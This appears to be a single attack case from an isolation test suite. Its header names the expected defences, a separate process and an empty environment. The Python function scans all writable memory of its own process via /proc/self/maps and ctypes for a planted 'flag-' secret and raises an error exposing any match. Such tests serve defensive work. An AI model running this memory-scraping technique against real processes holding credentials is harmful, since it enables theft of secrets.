# /// attack
# tries = "searches all of its own memory for the secret"
# wins = "flag"
# stopped_by = ["separate process", "empty environment"]
# proof = {without = ["boundary"]}
# ///
import ctypes
import re


def attack():
    with open("/proc/self/maps") as maps:
        areas = [line.split()[0].split("-") for line in maps if " rw-p " in line]
    found = set()
    for begin, end in areas:
        size = int(end, 16) - int(begin, 16)
        memory = (ctypes.c_char * size).from_address(int(begin, 16))
        found.update(re.findall(b"flag-[0-9a-f]{24}", memory))
    raise RuntimeError(found)
